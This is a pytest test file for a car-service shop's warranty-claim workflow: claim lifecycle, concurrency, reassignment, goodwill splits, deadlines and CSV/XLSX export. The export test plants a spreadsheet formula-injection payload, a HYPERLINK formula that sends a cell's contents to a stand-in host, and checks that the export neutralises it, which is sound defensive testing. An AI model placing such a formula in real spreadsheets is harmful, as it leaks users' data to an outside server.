"""Issue 21 item 3: warranty claims to the maker (索赔) and goodwill (善意保修).

Each order from tests/factories.order_through leaves ¥905.00 under warranty: front brake pads,
1.5 h of labour code BR0201 at ¥150 (¥225.00) and the pads (¥680.00), a receivable owed by
the maker (大众) once its settlement is prepared. The lifecycle and the two clerks at once
run on SQLite and PostgreSQL; the rest on SQLite (the services' rules, not the database's).
"""

from __future__ import annotations

import csv
import datetime as dt
import os
import stat
import threading
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from frontdesk.cli import main
from frontdesk.model import (
    AuditEvent,
    Goodwill,
    Job,
    PartLine,
    Receivable,
    WarrantyClaim,
    WarrantyClaimRevision,
)
from frontdesk.model.enums import PayerKind, PayType, Role
from frontdesk.model.warranty import ClaimState
from frontdesk.services import checkin, estimate, ledger, settlement
from frontdesk.services import warranty_claims as wc
from frontdesk.services.errors import (
    ConflictError,
    IllegalTransition,
    PermissionDenied,
    ValidationError,
)

from .factories import order_through, seed_shop, stored

SQLITE_ONLY = pytest.mark.parametrize("database", ["sqlite"], indirect=True)
PADS = Decimal("905.00")


def _orders(services, admin, actors, n: int, stops: tuple[str, ...] = ()) -> list[int]:  # type: ignore[no-untyped-def]
    """``n`` orders of as many vehicles (plate and VIN ending in 0, 1, ...), each taken as far as its stop."""
    shop = seed_shop(services, admin, actors)
    adv = actors[Role.ADVISOR]
    ids = []
    for i, stop in zip(range(n), stops or ("delivered",) * n, strict=True):
        customer = checkin.save_customer(services, adv, checkin.CustomerInput(f"张伟{i}", f"1380013800{i}"))
        vehicle = checkin.save_vehicle(services, adv, customer.id, checkin.VehicleInput(
            plate=f"粤A1234{i}", vin=f"LSVAU03361234567{i}", make="大众", model="朗逸", confirm_vin_check_digit=True))
        ids.append(order_through(services, actors, shop, vehicle.id, stop=stop).id)
    return ids


def _filled(view: wc.ClaimView, **changes) -> wc.ClaimInput:  # type: ignore[no-untyped-def]
    data = {"fault": view.fault, "mileage_km": view.mileage_km, "cause": "前刹车片异常磨损", "remedy": view.remedy,
            "labour": view.labour, "parts": view.parts, "maker_ref": view.maker_ref}
    return wc.ClaimInput(**(data | changes))


def _maker_receivable(services, order_id: int) -> Receivable:  # type: ignore[no-untyped-def]
    with services.db.reader() as s:
        return s.scalars(select(Receivable).where(Receivable.order_id == order_id,
                                                  Receivable.payer_kind == PayerKind.MAKER)).one()


def _submitted(services, clerk, order_id: int) -> wc.ClaimRef:  # type: ignore[no-untyped-def]
    ref = wc.create_claim(services, clerk, order_id)
    view = wc.claim_for_order(services, clerk, order_id)
    ref = wc.update_claim(services, clerk, ref.id, _filled(view), ref.version)
    return wc.submit(services, clerk, ref.id, ref.version)


def test_claim_returned_edited_resubmitted_approved_and_paid_with_another_by_one_transfer(
        services, admin, actors, clock):
    clerk = actors[Role.CLAIMS_CLERK]
    first, second = _orders(services, admin, actors, 2)
    assert wc.claim_for_order(services, clerk, first) is None

    ref = wc.create_claim(services, clerk, first)
    view = wc.claim_for_order(services, clerk, first)
    assert (view.number, view.state, view.version_no, view.claimed) == (f"{view.order_number}-C", "draft", 1, PADS)
    assert [(x.code, x.hours, x.amount) for x in view.labour] == [("BR0201", Decimal("1.50"), Decimal("225.00"))]
    assert [(x.number, x.qty, x.unit_price) for x in view.parts] == [("5Q0698151", Decimal("1.00"), Decimal("680.00"))]
    assert (view.mileage_km, view.fault, view.deadline) == (15230, "刹车异响\n做保养", view.repair_on + dt.timedelta(30))
    with pytest.raises(ValidationError, match="already"):
        wc.create_claim(services, clerk, first)  # one claim per order
    with pytest.raises(ValidationError, match="cause"):
        wc.submit(services, clerk, ref.id, ref.version)  # the technician's cause is still missing

    ref = wc.update_claim(services, clerk, ref.id, _filled(view), ref.version)
    ref = wc.submit(services, clerk, ref.id, ref.version)
    assert (ref.state, ref.version_no) == (ClaimState.SUBMITTED, 1)
    with pytest.raises(IllegalTransition, match="cannot be changed"):  # a submitted claim keeps what it sent
        wc.update_claim(services, clerk, ref.id, _filled(view, cause="改"), ref.version)
    with pytest.raises(ValidationError, match="future"):
        wc.record_return(services, clerk, ref.id, "缺少故障照片", on=clock().date() + dt.timedelta(days=1))

    clock.advance(days=3)
    ref = wc.record_return(services, clerk, ref.id, "缺少故障照片", expected_version=ref.version)
    ref = wc.update_claim(services, clerk, ref.id, _filled(view, cause="刹车片材料缺陷，附照片"), ref.version)
    assert (ref.state, ref.version_no) == (ClaimState.RETURNED, 2)  # editing a returned claim: the next revision
    ref = wc.resubmit(services, clerk, ref.id, ref.version)
    with pytest.raises(ValidationError, match="cannot approve"):
        wc.record_approval(services, clerk, ref.id, "905.01")
    with pytest.raises(ValidationError, match="negative"):
        wc.record_approval(services, clerk, ref.id, "-1")
    wc.record_approval(services, clerk, ref.id, "905.00")

    view = wc.claim_for_order(services, clerk, first)
    assert [(r.version_no, r.content["cause"]) for r in view.revisions] == [
        (1, "前刹车片异常磨损"), (2, "刹车片材料缺陷，附照片")]  # what each submission sent, kept
    assert view.returned_reason == "缺少故障照片" and view.state == ClaimState.APPROVED

    other = _submitted(services, clerk, second)
    wc.record_approval(services, clerk, other.id, "800.00")  # approved short: the store bears the other ¥105
    ours, theirs = _maker_receivable(services, first), _maker_receivable(services, second)
    assert (theirs.open_amount, theirs.written_off) == (Decimal("800.00"), Decimal("105.00"))
    assert "approved ¥800.00 of ¥905.00" in theirs.write_off_reason
    ledger.record_remittance(services, clerk, ledger.RemittanceInput(
        PayerKind.MAKER, "大众", "1705.00", "VW-2026-12", received_on=clock().date()),
        [ledger.AllocationInput(ours.id, "905.00"), ledger.AllocationInput(theirs.id, "800.00")])

    rows = {r.order_id: r for r in wc.claims(services, clerk)}
    assert [(rows[o].state, rows[o].paid, rows[o].alert) for o in (first, second)] == [
        (ClaimState.PAID, PADS, False), (ClaimState.PAID, Decimal("800.00"), False)]
    assert {r.id for r in wc.claims(services, clerk, state="paid")} == {ref.id, other.id}
    assert wc.claims(services, clerk, state="approved") == []
    assert _maker_receivable(services, first).closed_at is not None
    assert _maker_receivable(services, second).closed_at is not None  # nothing left owing for ever
    with services.db.reader() as s:
        assert s.scalar(select(WarrantyClaimRevision.content).where(
            WarrantyClaimRevision.claim_id == ref.id, WarrantyClaimRevision.version_no == 1))["cause"] == "前刹车片异常磨损"
        actions = s.scalars(select(AuditEvent.action).where(AuditEvent.entity == "warranty_claim")).all()
    assert actions.count("warranty_claim.decide") == 3 and actions.count("warranty_claim.edit") == 8


def test_two_clerks_submitting_one_claim_at_once_send_it_once(services, admin, actors):
    clerk, manager = actors[Role.CLAIMS_CLERK], actors[Role.MANAGER]
    (order,) = _orders(services, admin, actors, 1)
    ref = wc.create_claim(services, clerk, order)
    ref = wc.update_claim(services, clerk, ref.id, _filled(wc.claim_for_order(services, clerk, order)), ref.version)
    start, outcomes = threading.Barrier(2), []

    def send(actor):  # type: ignore[no-untyped-def]
        start.wait()
        try:
            outcomes.append(wc.submit(services, actor, ref.id, ref.version).state)
        except (ConflictError, IllegalTransition) as exc:
            outcomes.append(type(exc).__name__)

    threads = [threading.Thread(target=send, args=(a,)) for a in (clerk, manager)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sorted(outcomes) == sorted([ClaimState.SUBMITTED, "ConflictError"])
    with services.db.reader() as s:
        assert len(s.scalars(select(WarrantyClaimRevision).where(WarrantyClaimRevision.claim_id == ref.id)).all()) == 1
    assert stored(services, WarrantyClaim, ref.id).version == ref.version + 1


@SQLITE_ONLY
def test_a_rejected_claim_goes_to_the_dealer_or_the_customer_by_the_manager(services, admin, actors):
    clerk, manager = actors[Role.CLAIMS_CLERK], actors[Role.MANAGER]
    dealer_order, customer_order = _orders(services, admin, actors, 2)
    claims = {}
    for order in (dealer_order, customer_order):
        ref = _submitted(services, clerk, order)
        with pytest.raises(IllegalTransition, match="moving its cost is not possible"):
            wc.reassign(services, manager, ref.id, "dealer", "x")
        claims[order] = wc.record_rejection(services, clerk, ref.id, "超出保修范围")
    with pytest.raises(PermissionDenied):
        wc.reassign(services, clerk, claims[dealer_order].id, "dealer", "外部损伤")
    with pytest.raises(ValidationError, match="dealer or the customer"):
        wc.reassign(services, manager, claims[dealer_order].id, "maker", "x")
    with pytest.raises(ValidationError, match="required"):
        wc.reassign(services, manager, claims[dealer_order].id, "dealer", " ")

    wc.reassign(services, manager, claims[dealer_order].id, "dealer", "判定失误，店内承担")
    maker = _maker_receivable(services, dealer_order)
    assert (maker.written_off, maker.closed_at is not None) == (PADS, True)
    assert "判定失误" in maker.write_off_reason

    wc.reassign(services, manager, claims[customer_order].id, "customer", "客户改装导致")
    with services.db.reader() as s:
        owed = {r.payer_kind: r for r in s.scalars(select(Receivable).where(Receivable.order_id == customer_order))}
    assert owed[PayerKind.MAKER].open_amount == 0
    assert (owed[PayerKind.CUSTOMER].amount, owed[PayerKind.CUSTOMER].payer_name) == (PADS, "张伟1")
    view = wc.claim_for_order(services, clerk, customer_order)
    assert (view.state, view.reassigned_to, view.reassign_reason) == (ClaimState.REASSIGNED, "customer", "客户改装导致")
    with pytest.raises(IllegalTransition):
        wc.reassign(services, manager, claims[customer_order].id, "dealer", "again")


@SQLITE_ONLY
def test_goodwill_split_bills_the_maker_share_as_the_claim(services, admin, actors):
    clerk, manager = actors[Role.CLAIMS_CLERK], actors[Role.MANAGER]
    (order,) = _orders(services, admin, actors, 1)
    with pytest.raises(PermissionDenied):
        wc.approve_goodwill(services, clerk, order, "200", "505", "200")
    with pytest.raises(ValidationError, match="add up to"):
        wc.approve_goodwill(services, manager, order, "200", "500", "200")
    with pytest.raises(ValidationError, match="negative"):
        wc.approve_goodwill(services, manager, order, "-100", "805", "200")
    ref = wc.create_claim(services, clerk, order)

    wc.approve_goodwill(services, manager, order, "200.00", "505.00", "200.00", reason="老客户，过保两个月")
    view = wc.claim_for_order(services, clerk, order)
    assert (view.goodwill, view.claimed) == (True, Decimal("505.00"))
    with services.db.reader() as s:
        owed = {r.payer_kind: r for r in s.scalars(select(Receivable).where(Receivable.order_id == order))}
        split = s.scalars(select(Goodwill)).one()
    assert (owed[PayerKind.MAKER].open_amount, owed[PayerKind.MAKER].written_off) == (Decimal("505.00"), Decimal("400.00"))
    assert owed[PayerKind.CUSTOMER].amount == Decimal("200.00")
    assert (split.total, split.dealer_amount, split.approved_by_id) == (PADS, Decimal("200.00"), manager.user_id)
    with pytest.raises(ValidationError, match="already"):
        wc.approve_goodwill(services, manager, order, "0", "905", "0")
    with pytest.raises(IllegalTransition, match="written off or moved"):  # preparing it again would undo the split
        settlement.prepare_settlement(services, actors[Role.ADVISOR], order, settlement.SettlementInput(
            safety_ack_by="张伟"))
    assert view.version == ref.version + 1  # the split changed the claim: a terminal holding it reloads
    ref = wc.update_claim(services, clerk, ref.id, _filled(view), view.version)
    assert wc.submit(services, clerk, ref.id, ref.version).state == ClaimState.SUBMITTED
    assert wc.claim_for_order(services, clerk, order).revisions[0].content["claimed"] == "505.00"


@SQLITE_ONLY
def test_deadline_alerts_and_claims_refused(services, admin, actors, clock):
    clerk, adv = actors[Role.CLAIMS_CLERK], actors[Role.ADVISOR]
    ready, at_desk = _orders(services, admin, actors, 2, stops=("delivered", "estimate"))
    with pytest.raises(IllegalTransition, match="not finished"):
        wc.create_claim(services, clerk, at_desk)
    with services.db.reader() as s:
        jobs = s.scalars(select(Job.id).where(Job.order_id == at_desk, Job.pay_type == PayType.WARRANTY)).all()
        parts = s.scalars(select(PartLine.id).where(PartLine.order_id == at_desk,
                                                    PartLine.pay_type == PayType.WARRANTY)).all()
    for job in jobs:
        estimate.update_job(services, adv, at_desk, job, pay_type="customer")
    for part in parts:
        estimate.update_part(services, adv, at_desk, part, pay_type="customer")
    with pytest.raises(ValidationError, match="no warranty work"):
        wc.create_claim(services, clerk, at_desk)

    ref = wc.create_claim(services, clerk, ready)
    assert [(r.days_left, r.alert) for r in wc.claims(services, clerk)] == [(30, False)]
    clock.advance(days=23)
    assert [(r.days_left, r.alert) for r in wc.claims(services, clerk)] == [(7, True)]
    clock.advance(days=10)
    assert [(r.days_left, r.alert) for r in wc.claims(services, clerk)] == [(-3, True)]  # overdue
    view = wc.claim_for_order(services, clerk, ready)
    with pytest.raises(ValidationError, match="negative"):
        wc.update_claim(services, clerk, ref.id, _filled(
            view, labour=(wc.ClaimLabour("BR0201", "x", "1.5", "-225"),)), ref.version)
    with pytest.raises(ValidationError, match="mileage_km"):
        wc.update_claim(services, clerk, ref.id, _filled(view, mileage_km=-5), ref.version)
    empty = wc.update_claim(services, clerk, ref.id, _filled(view, labour=(), parts=()), ref.version)
    with pytest.raises(ValidationError, match="at least one"):
        wc.submit(services, clerk, empty.id, empty.version)
    with pytest.raises(PermissionDenied):
        wc.claims(services, adv)
    ref = wc.update_claim(services, clerk, ref.id, _filled(view), empty.version)
    with pytest.raises(ConflictError):
        wc.submit(services, clerk, ref.id, empty.version)  # a terminal holding the older copy
    wc.submit(services, clerk, ref.id, ref.version)
    assert [r.alert for r in wc.claims(services, clerk)] == [False]  # with the maker: no longer the clerk's deadline


@SQLITE_ONLY
def test_claims_export_for_the_maker_portal_is_private_and_formula_safe(services, admin, actors, tmp_path, capsys):
    clerk = actors[Role.CLAIMS_CLERK]
    (order,) = _orders(services, admin, actors, 1)
    ref = wc.create_claim(services, clerk, order)
    view = wc.claim_for_order(services, clerk, order)
    wc.update_claim(services, clerk, ref.id, _filled(view, fault='=HYPERLINK("http://x/?d="&A1,"点")'), ref.version)

    done = wc.export_batch(services, clerk, "draft", tmp_path / "batch.csv")
    assert done.rows == 2  # one labour line, one part
    assert stat.S_IMODE(os.stat(done.path).st_mode) == 0o600
    with open(done.path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[1][0] == view.number and rows[1][11].startswith("'=HYPERLINK")
    assert [r[15] for r in rows[1:]] == ["BR0201", "5Q0698151"]

    book = wc.export_batch(services, clerk, [ref.id], tmp_path / "batch.xlsx")
    cell = load_workbook(book.path).active.cell(row=2, column=12)
    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")  # text, never a formula
    assert wc.export_batch(services, clerk, "submitted", tmp_path / "none.csv").rows == 0
    with pytest.raises(PermissionDenied):
        wc.export_batch(services, actors[Role.ADVISOR], None, tmp_path / "no.csv")

    url = services.db.url if isinstance(services.db.url, str) else services.db.url.render_as_string(hide_password=False)
    assert main(["export", "claims", "--out", str(tmp_path / "cli.xlsx"), "--db", url, "--lang", "en"]) == 0
    assert "2 rows written" in capsys.readouterr().out
    assert main(["export", "claims", "--state", "lost", "--out", str(tmp_path / "bad.csv"), "--db", url, "--lang", "en"]) != 0
    err = capsys.readouterr().err.strip()
    assert "lost" in err and len(err.splitlines()) == 1
    assert not (tmp_path / "bad.csv").exists()


def test_the_claim_deadline_is_a_setting():
    from dataclasses import replace

    from frontdesk.config import Settings
    from frontdesk.services.settings import SettingsForm, checked

    current = Settings()
    assert current.warranty_claim_days == 30
    form = SettingsForm.of(current)
    assert checked(replace(form, warranty_claim_days="45"), current).warranty_claim_days == 45
    assert checked(replace(form, warranty_claim_days=""), current).warranty_claim_days == 30  # blank keeps the file's
    with pytest.raises(ValidationError, match="warranty_claim_days"):
        checked(replace(form, warranty_claim_days="0"), current)
